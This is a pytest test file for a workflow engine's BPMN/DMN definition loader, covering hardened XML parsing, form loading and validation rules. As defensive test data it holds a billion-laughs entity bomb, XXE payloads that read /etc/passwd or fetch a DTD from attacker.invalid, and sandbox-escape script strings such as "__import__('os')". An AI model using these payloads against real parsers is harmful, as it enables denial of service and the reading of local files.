"""engine.definitions: hardened XML, bundles, forms, parsing and strict validation."""

from __future__ import annotations

import json
import time

import pytest
from SpiffWorkflow.bpmn.workflow import BpmnWorkflow
from SpiffWorkflow.util.task import TaskState

from engine.definitions import problems as codes
from engine.definitions.bundle import DefinitionBundle
from engine.definitions.dmn_checks import entry_expressions
from engine.definitions.forms import form_ids, load_form
from engine.definitions.parsing import load_specs
from engine.definitions.validation import validate
from engine.definitions.xmlsafe import MAX_XML_BYTES, parse_xml
from engine.errors import DefinitionInvalid

# ---------------------------------------------------------------------------------------------
# A small, valid Camunda-flavoured bundle; `bpmn(...)` swaps single parts to inject violations.

BPMN_TEMPLATE = """<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
    xmlns:camunda="http://camunda.org/schema/1.0/bpmn" id="defs_trip" targetNamespace="http://waishi.test">
  <bpmn:process id="trip" name="出访审批" isExecutable="true">
    <bpmn:laneSet id="ls">
      <bpmn:lane id="lane_clerk" name="unit_clerk">
        <bpmn:flowNodeRef>start</bpmn:flowNodeRef>
        <bpmn:flowNodeRef>ut_apply</bpmn:flowNodeRef>
        <bpmn:flowNodeRef>brt_level</bpmn:flowNodeRef>
      </bpmn:lane>
      <bpmn:lane id="lane_fao" name="{review_lane}">
        <bpmn:flowNodeRef>ut_review</bpmn:flowNodeRef>
        <bpmn:flowNodeRef>bt_late</bpmn:flowNodeRef>
        <bpmn:flowNodeRef>gw_review</bpmn:flowNodeRef>
        <bpmn:flowNodeRef>st_finish</bpmn:flowNodeRef>
        <bpmn:flowNodeRef>end_ok</bpmn:flowNodeRef>
        <bpmn:flowNodeRef>end_rejected</bpmn:flowNodeRef>
        <bpmn:flowNodeRef>end_late</bpmn:flowNodeRef>
      </bpmn:lane>
    </bpmn:laneSet>
    <bpmn:startEvent id="start"/>
    <bpmn:sequenceFlow id="f1" sourceRef="start" targetRef="ut_apply"/>
    <bpmn:userTask id="ut_apply" name="填写申请" camunda:formKey="trip_apply">{apply_body}</bpmn:userTask>
    <bpmn:sequenceFlow id="f2" sourceRef="ut_apply" targetRef="brt_level"/>
    <bpmn:businessRuleTask id="brt_level" camunda:decisionRef="{decision}"/>
    <bpmn:sequenceFlow id="f3" sourceRef="brt_level" targetRef="ut_review"/>
    <bpmn:userTask id="ut_review" name="外办审查" {review_form}/>
    <bpmn:boundaryEvent id="bt_late" attachedToRef="ut_review" cancelActivity="true">
      <bpmn:timerEventDefinition id="td_late">
        <bpmn:timeDuration>{timer}</bpmn:timeDuration>
      </bpmn:timerEventDefinition>
    </bpmn:boundaryEvent>
    <bpmn:sequenceFlow id="f_late" sourceRef="bt_late" targetRef="end_late"/>
    <bpmn:endEvent id="end_late"/>
    <bpmn:sequenceFlow id="f4" sourceRef="ut_review" targetRef="gw_review"/>
    <bpmn:exclusiveGateway id="gw_review" {default}/>
    <bpmn:sequenceFlow id="f_reject" sourceRef="gw_review" targetRef="end_rejected">
      <bpmn:conditionExpression>{condition}</bpmn:conditionExpression>
    </bpmn:sequenceFlow>
    <bpmn:endEvent id="end_rejected"/>
    <bpmn:sequenceFlow id="f_ok" sourceRef="gw_review" targetRef="st_finish"/>
    <bpmn:scriptTask id="st_finish" scriptFormat="python">
      <bpmn:script>{script}</bpmn:script>
    </bpmn:scriptTask>
    <bpmn:sequenceFlow id="f5" sourceRef="st_finish" targetRef="end_ok"/>
    <bpmn:endEvent id="end_ok"/>
  </bpmn:process>
</bpmn:definitions>
"""

GOOD = {
    "review_lane": "fao_clerk",
    "decision": "trip_level",
    "review_form": 'camunda:formKey="trip_decide"',
    "timer": '"PT48H"',
    "default": 'default="f_ok"',
    "condition": "decision == 'reject'",
    "script": "status = 'approved' if level == 'director' else 'checked'",
    "apply_body": "",
}


def bpmn(**changes: str) -> bytes:
    return BPMN_TEMPLATE.format(**{**GOOD, **changes}).encode()


DMN_TEMPLATE = """<?xml version="1.0" encoding="UTF-8"?>
<definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="defs_level" name="level"
    namespace="http://waishi.test">
  <decision id="trip_level" name="审批级别">
    <decisionTable id="dt_level">
      <input id="in_days" label="天数"><inputExpression id="ie_days" typeRef="integer"><text>days</text>
      </inputExpression></input>
      <output id="out_level" name="level" typeRef="string"/>
      <rule id="r1">
        <inputEntry id="r1_in"><text>{entry}</text></inputEntry>
        <outputEntry id="r1_out"><text>{output}</text></outputEntry>
      </rule>
      <rule id="r2">
        <inputEntry id="r2_in"><text>-</text></inputEntry>
        <outputEntry id="r2_out"><text>'director'</text></outputEntry>
      </rule>
    </decisionTable>
  </decision>
</definitions>
"""


def dmn(entry: str = "1 &lt;= ? &lt;= 5", output: str = "'section'") -> bytes:
    return DMN_TEMPLATE.format(entry=entry, output=output).encode()


def form(form_id: str, key: str = "decision") -> bytes:
    return json.dumps({"type": "default", "id": form_id, "schemaVersion": 16,
                       "components": [{"type": "textfield", "key": key, "label": key}]}).encode()


def good_forms() -> dict[str, bytes]:
    return {"trip_apply.form": form("trip_apply", "days"), "trip_decide.form": form("trip_decide")}


def bundle(bpmn_bytes: bytes | None = None, dmn_bytes: bytes | None = None,
           **forms: bytes) -> DefinitionBundle:
    return DefinitionBundle(
        bpmn={"trip.bpmn": bpmn_bytes if bpmn_bytes is not None else bpmn()},
        dmn={"level.dmn": dmn_bytes if dmn_bytes is not None else dmn()},
        forms=forms or good_forms(),
    )


def only(report, code: str):
    found = [p for p in report.problems + report.warnings if p.code == code]
    assert found, f"no {code} problem in {[p.text('en') for p in report.problems + report.warnings]}"
    return found


def refused(data: bytes, filename: str = "x.bpmn") -> DefinitionInvalid:
    with pytest.raises(DefinitionInvalid) as info:
        parse_xml(data, filename)
    problem = info.value.problems[0]
    assert problem.code == codes.XML and problem.zh and problem.en
    return info.value


# ---------------------------------------------------------------------------------------------
# Hostile and broken XML


def billion_laughs(levels: int = 10) -> bytes:
    decls = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, levels)
    ]
    return (f'<?xml version="1.0"?>\n<!DOCTYPE bpmn:definitions [\n{"".join(decls)}\n]>\n'
            f'<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">'
            f"&lol{levels - 1};</bpmn:definitions>").encode()


def test_billion_laughs_is_refused_fast_and_named():
    started = time.perf_counter()
    exc = refused(billion_laughs())
    assert time.perf_counter() - started < 0.5
    p = exc.problems[0]
    assert "DOCTYPE" in p.en and "billion-laughs" in p.en and "DTD" in p.zh
    assert p.line == 2 and p.extra["reason"] == "doctype"


@pytest.mark.parametrize("system_id", ["file:///etc/passwd", "http://attacker.invalid/x.dtd"])
def test_external_entities_are_refused(system_id):
    data = (f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "{system_id}">]>'
            f'<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">&xxe;'
            f"</bpmn:definitions>").encode()
    p = refused(data).problems[0]
    assert "XXE" in p.en and p.extra["reason"] == "doctype"


def test_parameter_entity_and_utf16_doctype_are_refused():
    pe = b'<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]><d/>'
    assert refused(pe).problems[0].extra["reason"] == "doctype"
    assert refused(billion_laughs().decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
                   .encode("utf-16")).problems[0].extra["reason"] == "doctype"


def test_fifty_megabytes_fail_before_parsing():
    data = b"<bpmn:definitions>" + b" " * (50 * 1024 * 1024) + b"</bpmn:definitions>"
    started = time.perf_counter()
    p = refused(data).problems[0]
    assert time.perf_counter() - started < 0.1
    assert p.extra["reason"] == "too_large" and "too large" in p.en and "过大" in p.zh
    assert str(MAX_XML_BYTES) in p.en


def test_size_limit_is_a_parameter():
    with pytest.raises(DefinitionInvalid):
        parse_xml(bpmn(), "trip.bpmn", max_bytes=100)
    assert parse_xml(bpmn(), "trip.bpmn", max_bytes=len(bpmn())).getroot() is not None


@pytest.mark.parametrize("data", [b"", b"  \n\t "])
def test_empty_file(data):
    p = refused(data).problems[0]
    assert "empty" in p.en and "空" in p.zh and p.line == 1


def test_png_bytes():
    p = refused(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))).problems[0]
    assert "PNG" in p.en and "PNG" in p.zh


def test_mismatched_tag_reports_parser_line():
    data = b'<?xml version="1.0"?>\n<bpmn:definitions xmlns:bpmn="x">\n\n</foobar>\n'
    p = refused(data).problems[0]
    assert p.line == 4 and "mismatch" in p.en and "第 4 行" in p.zh


def test_svg_posing_as_dmn():
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image/></svg>'
    p = refused(svg, "rules.dmn").problems[0]
    assert "SVG" in p.en and "DMN" in p.en and "SVG" in p.zh


def test_root_must_be_bpmn_definitions_in_the_model_namespace():
    p = refused(b'<definitions xmlns="http://example.com/not-bpmn"/>').problems[0]
    assert "namespace" in p.en and "http://www.omg.org/spec/BPMN/20100524/MODEL" in p.en
    assert "DMN" in refused(dmn(), "level.bpmn").problems[0].en


@pytest.mark.parametrize("ns", [
    "http://www.omg.org/spec/DMN/20151101/dmn.xsd", "http://www.omg.org/spec/DMN/20180521/MODEL/",
    "https://www.omg.org/spec/DMN/20191111/MODEL/", "https://www.omg.org/spec/DMN/20211108/MODEL/",
    "https://www.omg.org/spec/DMN/20230324/MODEL/",
])
def test_dmn_versions_accepted(ns):
    assert parse_xml(f'<definitions xmlns="{ns}"/>'.encode(), "d.dmn").getroot() is not None


def test_validate_reports_hostile_files_without_raising():
    b = DefinitionBundle(bpmn={"laughs.bpmn": billion_laughs(), "empty.bpmn": b"", "ok.bpmn": bpmn()},
                         dmn={"fake.dmn": b'<svg xmlns="http://www.w3.org/2000/svg"/>', "level.dmn": dmn()},
                         forms=good_forms())
    report = validate(b)
    xml = {p.file for p in report.problems if p.code == codes.XML}
    assert xml == {"laughs.bpmn", "empty.bpmn", "fake.dmn"}
    assert report.process_ids == ["trip"]


# ---------------------------------------------------------------------------------------------
# Bundles and forms


def test_content_hash_is_order_independent_and_content_sensitive():
    a = DefinitionBundle(bpmn={"a.bpmn": b"1", "b.bpmn": b"2"}, forms={"f.form": b"{}"})
    b = DefinitionBundle(forms={"f.form": b"{}"}, bpmn={"b.bpmn": b"2", "a.bpmn": b"1"})
    assert a.content_hash() == b.content_hash()
    assert a.content_hash() != DefinitionBundle(bpmn={"a.bpmn": b"1", "b.bpmn": b"3"},
                                                forms={"f.form": b"{}"}).content_hash()
    # The same bytes under another kind or name are a different bundle.
    assert a.content_hash() != DefinitionBundle(bpmn={"a.bpmn": b"1", "b.bpmn": b"2"},
                                                dmn={"f.form": b"{}"}).content_hash()


def test_from_paths_reads_files_and_directories(tmp_path):
    (tmp_path / "defs" / "sub").mkdir(parents=True)
    (tmp_path / "defs" / "trip.bpmn").write_bytes(bpmn())
    (tmp_path / "defs" / "sub" / "old.bpmn20.xml").write_bytes(bpmn())
    (tmp_path / "defs" / "sub" / "level.dmn").write_bytes(dmn())
    (tmp_path / "defs" / "notes.txt").write_text("ignored")
    (tmp_path / "trip_decide.form").write_bytes(form("trip_decide"))
    b = DefinitionBundle.from_paths([tmp_path / "defs", str(tmp_path / "trip_decide.form")])
    assert sorted(b.bpmn) == ["sub/old.bpmn20.xml", "trip.bpmn"]
    assert list(b.dmn) == ["sub/level.dmn"] and list(b.forms) == ["trip_decide.form"]
    assert b.flavour() == "camunda"


def test_from_paths_reports_all_bad_paths(tmp_path):
    (tmp_path / "x.png").write_bytes(b"\x89PNG")
    with pytest.raises(DefinitionInvalid) as info:
        DefinitionBundle.from_paths([tmp_path / "x.png", tmp_path / "missing.bpmn"])
    assert len(info.value.problems) == 2 and {p.code for p in info.value.problems} == {codes.BUNDLE}


def test_form_ids_and_form_shape():
    b = bundle()
    assert form_ids(b) == {"trip_apply": "trip_apply.form", "trip_decide": "trip_decide.form"}
    with pytest.raises(DefinitionInvalid) as info:
        load_form(b'{"id": "x",\n "components": [}', "x.form")
    assert info.value.problems[0].line == 2 and "JSON" in info.value.problems[0].en
    with pytest.raises(DefinitionInvalid) as info:
        load_form(b'{"type": "custom"}', "x.form")
    assert len(info.value.problems) == 3  # no id, wrong type, no components
    with pytest.raises(DefinitionInvalid):
        load_form(b"[" * 100_000, "deep.form")
    with pytest.raises(DefinitionInvalid):
        load_form(form("big") + b" " * 2_000_000, "big.form")


# ---------------------------------------------------------------------------------------------
# Parsing with SpiffWorkflow


def test_good_bundle_is_valid_and_runs():
    report = validate(bundle())
    assert report.ok, [p.text("en") for p in report.problems]
    assert report.warnings == []
    assert report.process_ids == ["trip"] and report.names == {"trip": "出访审批"}
    parsed = load_specs(bundle())
    assert parsed.ok and parsed.flavour == "camunda" and parsed.decision_ids == {"trip_level": "level.dmn"}
    spec, subprocesses = parsed.get_spec("trip")
    assert parsed.get_spec("trip")[0] is spec  # built once
    wf = BpmnWorkflow(spec, subprocesses)
    wf.do_engine_steps()
    ready = wf.get_tasks(state=TaskState.READY, manual=True)
    assert [(t.task_spec.bpmn_id, t.task_spec.lane) for t in ready] == [("ut_apply", "unit_clerk")]
    assert ready[0].task_spec.form.key == "trip_apply"


def test_get_spec_of_unknown_process_raises_definition_invalid():
    with pytest.raises(DefinitionInvalid):
        load_specs(bundle()).get_spec("nope")


def test_spiffworkflow_parse_failure_is_a_located_problem():
    broken = bpmn().replace(b'targetRef="end_ok"', b'targetRef="nowhere"')
    parsed = load_specs(bundle(broken))
    assert not parsed.ok
    p = parsed.problems[0]
    assert p.code == codes.PARSE and p.element_id == "st_finish" and p.line and "nowhere" in p.en
    # The half-built spec SpiffWorkflow keeps is never handed out.
    with pytest.raises(DefinitionInvalid):
        parsed.get_spec("trip")
    assert only(validate(bundle(broken)), codes.PARSE)[0].element_id == "st_finish"


def test_spiff_namespace_selects_the_spiff_parser():
    spiff = (b'<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" '
             b'xmlns:spiffworkflow="http://spiffworkflow.org/bpmn/schema/1.0/core" id="d" '
             b'targetNamespace="t">'
             b'<bpmn:process id="p" isExecutable="true"><bpmn:startEvent id="s"/>'
             b'<bpmn:sequenceFlow id="f1" sourceRef="s" targetRef="brt"/>'
             b'<bpmn:businessRuleTask id="brt"><bpmn:extensionElements>'
             b"<spiffworkflow:calledDecisionId>trip_level</spiffworkflow:calledDecisionId>"
             b"</bpmn:extensionElements></bpmn:businessRuleTask>"
             b'<bpmn:sequenceFlow id="f2" sourceRef="brt" targetRef="e"/><bpmn:endEvent id="e"/>'
             b"</bpmn:process></bpmn:definitions>")
    b = DefinitionBundle(bpmn={"s.bpmn": spiff}, dmn={"level.dmn": dmn()})
    assert b.flavour() == "spiff"
    parsed = load_specs(b)
    assert parsed.flavour == "spiff" and parsed.ok, [p.text("en") for p in parsed.problems]
    assert validate(b).ok


def test_dmn_entries_become_the_expressions_spiffworkflow_evaluates():
    assert entry_expressions("days", "'x'") == ["days", "(days) == ('x')"]
    assert entry_expressions("days", "> 3") == ["days", "days> 3"]
    assert entry_expressions("days", "1 <= ? <= 30") == ["days", "1 <= dmninputexpr <= 30"]
    assert entry_expressions("days", "-") == [] and entry_expressions("days", None) == []
    with pytest.raises(SyntaxError):
        entry_expressions("days", "[5..8]")


# ---------------------------------------------------------------------------------------------
# Each rule, reported with its element id


def test_lane_not_a_task_role():
    p = only(validate(bundle(bpmn(review_lane="Reviewer"))), codes.LANE)[0]
    assert p.element_id == "ut_review" and "fao_clerk" in p.en and "Reviewer" in p.zh
    assert only(validate(bundle(bpmn(review_lane="auditor"))), codes.LANE)[0].element_id == "ut_review"


def test_user_task_outside_any_lane():
    no_lane = bpmn().replace(b"<bpmn:flowNodeRef>ut_review</bpmn:flowNodeRef>", b"")
    p = only(validate(bundle(no_lane)), codes.LANE)[0]
    assert p.element_id == "ut_review" and "not in a lane" in p.en


def test_form_key_missing_or_unknown():
    p = only(validate(bundle(bpmn(review_form=""))), codes.FORM)[0]
    assert p.element_id == "ut_review" and "formKey" in p.en
    p = only(validate(bundle(bpmn(review_form='camunda:formKey="nope"'))), codes.FORM)[0]
    assert p.element_id == "ut_review" and "'nope'" in p.en and "trip_decide" in p.en


def test_form_key_may_name_an_already_deployed_form():
    b = bundle(**{"trip_apply.form": form("trip_apply")})
    assert only(validate(b), codes.FORM)[0].element_id == "ut_review"
    assert validate(b, known_forms={"trip_decide"}).ok


def test_broken_form_file_is_reported():
    b = bundle(**{"trip_apply.form": form("trip_apply"), "trip_decide.form": b'{"id": "trip_decide",'})
    found = only(validate(b), codes.FORM)
    assert [(p.file, p.line) for p in found if p.file == "trip_decide.form"] == [("trip_decide.form", 1)]
    assert [p.element_id for p in found if p.file == "trip.bpmn"] == ["ut_review"]


def test_unknown_decision():
    p = only(validate(bundle(bpmn(decision="no_such_table"))), codes.DECISION)[0]
    assert p.element_id == "brt_level" and "no_such_table" in p.en and "trip_level" in p.en


def test_condition_that_does_not_compile():
    p = only(validate(bundle(bpmn(condition="decision ==="))), codes.EXPRESSION)[0]
    assert p.element_id == "f_reject" and p.line and p.zh and "decision ===" in p.en


def test_juel_condition_gets_a_hint():
    p = only(validate(bundle(bpmn(condition="${approved}"))), codes.EXPRESSION)[0]
    assert "JUEL" in p.en


def test_unquoted_timer_gets_a_quoting_hint():
    p = only(validate(bundle(bpmn(timer="PT48H"))), codes.EXPRESSION)[0]
    assert p.element_id == "bt_late" and '"PT48H"' in p.en and '"PT48H"' in p.zh


def test_quoted_but_unreadable_timer():
    p = only(validate(bundle(bpmn(timer='"48 hours"'))), codes.EXPRESSION)[0]
    assert p.element_id == "bt_late" and "48 hours" in p.en
    assert validate(bundle(bpmn(timer='f"P{sla_days}D"'))).ok  # computed from case data: fine


def test_forbidden_script():
    p = only(validate(bundle(bpmn(script="import os"))), codes.EXPRESSION)[0]
    assert p.element_id == "st_finish" and "mport" in p.en


def test_multi_instance_cardinality_expression():
    mi = bpmn(apply_body="<bpmn:multiInstanceLoopCharacteristics>"
                         "<bpmn:loopCardinality>len(members) +</bpmn:loopCardinality>"
                         "</bpmn:multiInstanceLoopCharacteristics>")
    p = only(validate(bundle(mi)), codes.EXPRESSION)[0]
    assert p.element_id == "ut_apply" and "cardinality" in p.en


def test_dmn_entries_compile_in_the_sandbox():
    report = validate(bundle(dmn_bytes=dmn(entry="&gt;&gt;&gt; 3", output="__import__('os')")))
    found = {p.element_id for p in only(report, codes.EXPRESSION)}
    assert found == {"r1_in", "r1_out"}
    assert all(p.file == "level.dmn" and p.line for p in report.problems)


def test_gateway_without_default_is_only_a_warning():
    both_conditional = bpmn(default="").replace(
        b'<bpmn:sequenceFlow id="f_ok" sourceRef="gw_review" targetRef="st_finish"/>',
        b'<bpmn:sequenceFlow id="f_ok" sourceRef="gw_review" targetRef="st_finish">'
        b"<bpmn:conditionExpression>decision == 'approve'</bpmn:conditionExpression></bpmn:sequenceFlow>",
    )
    report = validate(bundle(both_conditional))
    assert report.ok, [p.text("en") for p in report.problems]
    assert only(report, codes.GATEWAY)[0].element_id == "gw_review"
    assert report.warnings[0].severity == "warning"


def test_unconditional_flow_without_default_is_spiffworkflows_parse_error():
    p = only(validate(bundle(bpmn(default=""))), codes.PARSE)[0]
    assert p.element_id == "f_ok" and "without condition" in p.en


def test_call_activity_to_a_missing_process():
    call = bpmn().replace(b'sourceRef="st_finish" targetRef="end_ok"',
                          b'sourceRef="st_finish" targetRef="ca_passport"')
    call = call.replace(b'<bpmn:endEvent id="end_ok"/>',
                        b'<bpmn:callActivity id="ca_passport" calledElement="passport_visa"/>'
                        b'<bpmn:sequenceFlow id="f6" sourceRef="ca_passport" targetRef="end_ok"/>'
                        b'<bpmn:endEvent id="end_ok"/>')
    report = validate(bundle(call))
    found = only(report, codes.CALL)
    assert [p.element_id for p in found] == ["ca_passport"] and "passport_visa" in found[0].en
    assert found[0].line


def test_no_executable_process():
    report = validate(bundle(bpmn().replace(b'isExecutable="true"', b'isExecutable="false"')))
    assert only(report, codes.BUNDLE) and report.process_ids == []


def test_xsd_errors_are_all_reported_with_lines():
    bad = bpmn().replace(b'<bpmn:startEvent id="start"/>', b'<bpmn:startEvent id="start" bogus="1"/>')
    bad = bad.replace(b'<bpmn:endEvent id="end_ok"/>', b'<bpmn:endEvent id="end_ok" other="2"/>')
    found = only(validate(bundle(bad)), codes.XSD)
    assert [p.element_id for p in found] == ["start", "end_ok"]
    assert all(p.line and "XSD" in p.en and "XSD" in p.zh for p in found)


def test_several_problems_are_reported_at_once():
    report = validate(bundle(
        bpmn(review_lane="Reviewer", review_form='camunda:formKey="nope"', decision="missing",
             timer="PT48H", condition="decision ===", script="import os", default=""),
        dmn(entry="&gt;&gt;&gt; 3"),
    ))
    assert {codes.LANE, codes.FORM, codes.DECISION, codes.EXPRESSION} <= report.codes()
    by_id = {p.element_id for p in report.problems}
    assert {"ut_review", "brt_level", "bt_late", "f_reject", "st_finish", "r1_in"} <= by_id
    assert any(p.code == codes.GATEWAY for p in report.warnings)
    assert all(p.zh and p.en for p in report.problems + report.warnings)
    assert not any(p.extra.get("internal") for p in report.problems)


def test_user_task_in_a_subprocess_takes_the_subprocess_lane_like_spiffworkflow():
    # SpiffWorkflow hands a subprocess's lane down to everything inside it, whatever lane the
    # inner task's own flowNodeRef names; the lane rule must judge the lane that will be used.
    x = b"""<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
      xmlns:camunda="http://camunda.org/schema/1.0/bpmn" id="d" targetNamespace="t">
     <bpmn:process id="p" isExecutable="true">
      <bpmn:laneSet id="ls">
       <bpmn:lane id="l1" name="fao_clerk"><bpmn:flowNodeRef>sp</bpmn:flowNodeRef></bpmn:lane>
       <bpmn:lane id="l2" name="analyst"><bpmn:flowNodeRef>ut_in</bpmn:flowNodeRef></bpmn:lane>
      </bpmn:laneSet>
      <bpmn:startEvent id="s"/><bpmn:sequenceFlow id="f1" sourceRef="s" targetRef="sp"/>
      <bpmn:subProcess id="sp">
       <bpmn:startEvent id="s2"/><bpmn:sequenceFlow id="g1" sourceRef="s2" targetRef="ut_in"/>
       <bpmn:userTask id="ut_in" camunda:formKey="trip_decide"/>
       <bpmn:sequenceFlow id="g2" sourceRef="ut_in" targetRef="e2"/><bpmn:endEvent id="e2"/>
      </bpmn:subProcess>
      <bpmn:sequenceFlow id="f2" sourceRef="sp" targetRef="e"/><bpmn:endEvent id="e"/>
     </bpmn:process></bpmn:definitions>"""
    b = DefinitionBundle(bpmn={"sp.bpmn": x}, forms=good_forms())
    _, subprocesses = load_specs(b).get_spec("p")
    assert subprocesses["sp"].task_specs["ut_in"].lane == "fao_clerk"
    report = validate(b)
    assert report.ok, [p.text("en") for p in report.problems]
